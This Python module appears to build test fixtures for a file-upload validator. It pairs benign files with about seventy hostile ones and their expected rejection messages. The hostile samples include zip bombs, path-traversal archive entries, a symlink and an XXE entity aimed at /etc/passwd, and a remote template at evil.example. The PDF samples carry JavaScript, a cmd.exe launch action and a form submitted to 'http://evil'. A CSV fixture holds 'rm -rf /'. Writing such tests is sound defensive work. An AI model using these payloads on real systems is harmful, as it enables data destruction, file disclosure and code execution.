"""Files as an attacker makes them, and good ones of every kind beside them.  All are made here; none is kept."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf

from portal.demo.papers import paper

TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">%s</Types>'
RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}
EXECUTABLE = b"MZ\x90\x00" + b"\0" * 60


def archive(*parts: tuple[str, bytes | str], packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", packing) as file:
        for name, content in parts:
            file.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), content, packing)
    return made.getvalue()


def office(ending: str, *parts: tuple[str, bytes | str], types: str = "", packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    return archive(("[Content_Types].xml", TYPES % types), (MAIN[ending], "<document/>"), *parts, packing=packing)


def relation(kind: str, target: str) -> tuple[str, str]:
    one = f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    return "word/_rels/document.xml.rels", RELS % one


def pdf(**root: object) -> bytes:
    """A one-page PDF whose catalogue holds more than it should."""
    made = io.BytesIO()
    with pikepdf.open(io.BytesIO(paper("hostile"))) as file:
        for key, value in root.items():
            file.Root[f"/{key}"] = value
        file.save(made, static_id=True)
    return made.getvalue()


def action(kind: str, **more: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **more)


def on_the_page(act: pikepdf.Dictionary) -> bytes:
    """The action hangs on a field of the page, written out inside another object."""
    made = io.BytesIO()
    with pikepdf.open(io.BytesIO(paper("hostile"))) as file:
        note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=act)
        file.pages[0].obj["/Annots"] = pikepdf.Array([note])
        file.save(made, static_id=True, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return made.getvalue()


def attached(name: str, content: bytes) -> bytes:
    made = io.BytesIO()
    with pikepdf.open(io.BytesIO(paper("hostile"))) as file:
        file.attachments[name] = pikepdf.AttachedFileSpec(file, content, filename=name)
        file.save(made, static_id=True)
    return made.getvalue()


def locked(**rights: str) -> bytes:
    made = io.BytesIO()
    with pikepdf.open(io.BytesIO(paper("hostile"))) as file:
        file.save(made, encryption=pikepdf.Encryption(**rights))
    return made.getvalue()


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png(width: int = 2, height: int = 2, *, data: bytes | None = None) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = zlib.compress(b"\0\0\0" * 2) if data is None else data
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def jpeg(width: int = 2, height: int = 2, scan: bytes = b"\x12\x34\xff\x00\x56") -> bytes:
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    start = b"\xff\xda" + struct.pack(">HB", 8, 1) + b"\x01\x00\x00\x3f\x00"
    return b"\xff\xd8\xff\xe0" + struct.pack(">H", 4) + b"JF" + frame + start + scan + b"\xff\xd9"


def linked() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as file:
        file.writestr("[Content_Types].xml", TYPES % "")
        link = zipfile.ZipInfo("word/document.xml")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        file.writestr(link, "/etc/passwd")
    return made.getvalue()


def overlapping(copies: int = 300) -> bytes:
    """Many entries that share the bytes of one: what unpacks to far more than the file could hold."""
    whole = office("docx", ("word/media/a.xml", b" " * 4_000_000))
    end = whole.rfind(b"PK\x05\x06")
    count, length, at = struct.unpack_from("<HII", whole, end + 10)
    directory = whole[at : at + length]
    last = directory.rfind(b"PK\x01\x02")
    entry, name = bytearray(directory[last:]), b"word/media/a.xml"
    more = bytearray()
    for number in range(copies):
        entry[46 : 46 + len(name)] = f"word/media/{number:05}"[: len(name)].encode()
        more += entry
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count + copies, count + copies, length + len(more), at, 0)
    return whole[:at] + directory + bytes(more) + tail


def with_patched(content: bytes, find: bytes, put: bytes, *, last: bool = False) -> bytes:
    at = content.rfind(find) if last else content.find(find)
    assert at >= 0
    return content[:at] + put + content[at + len(find) :]


def locally_renamed() -> bytes:
    """The directory names one part, the part itself another: two programs would see two different files."""
    return with_patched(office("docx", ("word/a.xml", "<a/>")), b"word/a.xml", b"word/b.xml")


def wrong_size() -> bytes:
    """A part that says it is small and is not."""
    whole = bytearray(office("docx", ("word/a.xml", b"a" * 5000)))
    at = whole.rfind(b"PK\x01\x02")
    whole[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(whole)


def encrypted_part() -> bytes:
    whole = bytearray(office("docx", ("word/a.xml", "<a/>")))
    at = whole.rfind(b"PK\x01\x02")
    whole[at + 8] |= 1
    return bytes(whole)


GOOD: dict[str, bytes] = {
    "pdf": paper("good"),
    "png": png(),
    "jpg": jpeg(),
    "jpeg": jpeg(),
    "docx": office("docx", relation("hyperlink", "https://example.org/")),
    "xlsx": office("xlsx", ("xl/embedded.xlsx", office("xlsx"))),
    "csv": "批号,数量\nB2611-01,40\n".encode(),
    "txt": "放行".encode("gb18030"),
}

# A name, how its content is made, and the beginning of what its sender is told.
HOSTILE: list[tuple[str, str, Callable[[], bytes], str]] = [
    ("flat bomb", "a.docx", lambda: office("docx", ("word/a.xml", b"0" * 60_000_000)), "Unpacked, the file"),
    (
        "many small bombs",
        "a.docx",
        lambda: office("docx", *((f"word/{n}.xml", b"0" * 1_000_000) for n in range(60))),
        "Unpacked, the file",
    ),
    (
        "nested bomb",
        "a.docx",
        lambda: office("docx", ("word/in.docx", office("docx", ("word/a.xml", b"0" * 60_000_000)))),
        "Unpacked, the file",
    ),
    (
        "archives three deep",
        "a.docx",
        lambda: office("docx", ("a.zip", archive(("b.zip", archive(("c", "c")))))),
        "Archives lie inside archives",
    ),
    ("overlapping parts", "a.docx", overlapping, "Parts of the file lie on top"),
    (
        "too many parts",
        "a.docx",
        lambda: office("docx", *((f"word/{n}.xml", b"") for n in range(2100))),
        "The file holds more than 2000",
    ),
    ("link to another file", "a.docx", linked, "A part of the file is a link"),
    ("a way out", "a.docx", lambda: office("docx", ("../../etc/cron.d/x", "x")), "A part of the file is named so"),
    ("a way out, backwards", "a.docx", lambda: office("docx", ("..\\x", "x")), "A part of the file is named so"),
    ("an absolute part", "a.docx", lambda: office("docx", ("/etc/x", "x")), "A part of the file is named so"),
    ("a drive", "a.docx", lambda: office("docx", ("C:/x", "x")), "A part of the file is named so"),
    ("two parts of one name", "a.docx", lambda: office("docx", ("WORD/document.xml", "x")), "Two parts of the file"),
    ("directory and part differ", "a.docx", locally_renamed, "The parts of the file contradict"),
    ("a part that lies about its size", "a.docx", wrong_size, "A part of the file is damaged"),
    ("a locked part", "a.docx", encrypted_part, "The file is locked"),
    (
        "an uncommon packing",
        "a.docx",
        lambda: office("docx", ("a", "b" * 99), packing=zipfile.ZIP_BZIP2),
        "A part of the file is packed",
    ),
    ("an archive cut short", "a.docx", lambda: office("docx")[:-30], "The file is not a whole archive"),
    ("an archive behind an archive", "a.docx", lambda: office("docx") + office("docx"), "The file is not a whole"),
    ("a macro", "a.docx", lambda: office("docx", ("word/vbaProject.bin", "x")), "The file holds macros"),
    (
        "a macro under another name",
        "a.docx",
        lambda: office("docx", types='<Override PartName="/x" ContentType="application/vnd.ms-office.vbaProject"/>'),
        "The file holds macros",
    ),
    ("an old macro sheet", "a.xlsx", lambda: office("xlsx", ("xl/macrosheets/s.xml", "<s/>")), "The file holds macros"),
    (
        "an embedded object",
        "a.docx",
        lambda: office("docx", ("word/embeddings/oleObject1.bin", "x")),
        "The file holds an",
    ),
    ("an embedded program", "a.xlsx", lambda: office("xlsx", ("xl/media/a.png", EXECUTABLE)), "The file holds an"),
    (
        "a template from elsewhere",
        "a.docx",
        lambda: office("docx", relation("attachedTemplate", "https://evil.example/t.dotm")),
        "The file loads something",
    ),
    (
        "a link that opens files",
        "a.docx",
        lambda: office("docx", relation("hyperlink", "file:////server/share")),
        "The file loads something",
    ),
    (
        "a book from elsewhere",
        "a.xlsx",
        lambda: office("xlsx", ("xl/externalLinks/externalLink1.xml", "<e/>")),
        "The file loads something",
    ),
    (
        "a document type",
        "a.docx",
        lambda: office("docx", ("word/a.xml", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')),
        "A part of the file declares",
    ),
    (
        "a document type in UTF-16",
        "a.docx",
        lambda: office("docx", ("word/a.xml", "\ufeff<!DOCTYPE a><a/>".encode("utf-16-le"))),
        "A part of the file declares",
    ),
    ("a spreadsheet called a document", "a.docx", lambda: office("xlsx"), "The file is named .docx"),
    ("an archive called a document", "a.docx", lambda: archive(("a.txt", "a")), "The file is named .docx"),
    ("fifty thousand pixels wide", "a.png", lambda: png(50_000, 50_000), "The picture has 50000 × 50000"),
    ("a large photograph", "a.jpg", lambda: jpeg(60_000, 60_000), "The picture has 60000 × 60000"),
    ("no pixels at all", "a.png", lambda: png(0, 5), "The picture is damaged"),
    ("a picture cut short", "a.png", lambda: png()[:-14], "The picture is cut short"),
    ("a photograph cut short", "a.jpg", lambda: jpeg()[:-2], "The picture is cut short"),
    ("a chunk that lies", "a.png", lambda: with_patched(png(), b"IDAT", b"IDAX"), "The picture is damaged"),
    ("an archive behind a picture", "a.png", lambda: png() + archive(("a", "a")), "The file is a .png and an archive"),
    ("a web page behind a picture", "a.png", lambda: png() + b"<html>", "The file holds a web page"),
    ("a program behind a photograph", "a.jpg", lambda: jpeg() + b"\x7fELF", "Something else is hidden"),
    ("an archive behind a PDF", "a.pdf", lambda: paper("x") + archive(("a", "a")), "The file is a .pdf and an archive"),
    (
        "a web page in front",
        "a.pdf",
        lambda: b"%PDF-1.4\n<html><script>alert(1)</script>" + paper("x"),
        "The file holds a",
    ),
    (
        "JavaScript at the opening",
        "a.pdf",
        lambda: pdf(OpenAction=action("JavaScript", JS="app.alert(1)")),
        "The PDF holds J",
    ),
    (
        "JavaScript on the page",
        "a.pdf",
        lambda: on_the_page(action("JavaScript", JS="x()")),
        "The PDF holds JavaScript",
    ),
    (
        "JavaScript in disguise",
        "a.pdf",
        lambda: with_patched(pdf(OpenAction=action("JavaScript", JS="1")), b"/JavaScript", b"/J#61vaScript"),
        "The PDF holds JavaScript",
    ),
    (
        "JavaScript by name",
        "a.pdf",
        lambda: pdf(Names=pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([])))),
        "The PDF holds JavaScript",
    ),
    ("a program that is started", "a.pdf", lambda: pdf(OpenAction=action("Launch", F="cmd.exe")), "The PDF starts"),
    ("a form that is sent", "a.pdf", lambda: on_the_page(action("SubmitForm", F="http://evil")), "The PDF starts"),
    (
        "a dynamic form",
        "a.pdf",
        lambda: pdf(AcroForm=pikepdf.Dictionary(XFA="<x/>", Fields=[])),
        "The PDF is a dynamic",
    ),
    ("a film", "a.pdf", lambda: on_the_page(action("Rendition")), "The PDF holds JavaScript"),
    ("an attached program", "a.pdf", lambda: attached("setup.exe", EXECUTABLE), "A file of a kind"),
    ("a program attached as a text", "a.pdf", lambda: attached("notes.txt", EXECUTABLE), "A program is attached"),
    ("a password", "a.pdf", lambda: locked(owner="o", user="u"), "The PDF is locked"),
    ("rights withheld", "a.pdf", lambda: locked(owner="o", user=""), "The PDF is locked"),
    ("a PDF cut short", "a.pdf", lambda: paper("x")[:-100], "The PDF is cut short"),
    ("a PDF in name only", "a.pdf", lambda: b"%PDF-1.4\n%%EOF", "The PDF cannot be read"),
    ("a program", "a.pdf", lambda: EXECUTABLE, "The file is named .pdf"),
    ("a program as a table", "a.csv", lambda: b"#!/bin/sh\nrm -rf /\n", "The file is named .csv"),
    ("zeros in a table", "a.csv", lambda: b"a,b\0c", "The .csv file holds characters"),
    ("a table in UTF-16 with a bell", "a.csv", lambda: "a\x07,b".encode("utf-16"), "The .csv file holds characters"),
    ("a text in no encoding", "a.txt", lambda: b"\xfd\xfe\xfd broken \xff", "The .txt file is neither"),
    ("a drawing with a program", "a.txt", lambda: b"<svg onload='alert(1)'>", "The file holds a web page"),
    ("a drawing", "a.svg", lambda: b"<svg/>", "This kind of file is not accepted"),
    ("a page", "a.html", lambda: b"<html/>", "This kind of file is not accepted"),
    ("two endings", "a.pdf.exe", lambda: paper("x"), "This kind of file is not accepted"),
    ("nothing", "a.pdf", lambda: b"", "The file is empty"),
]
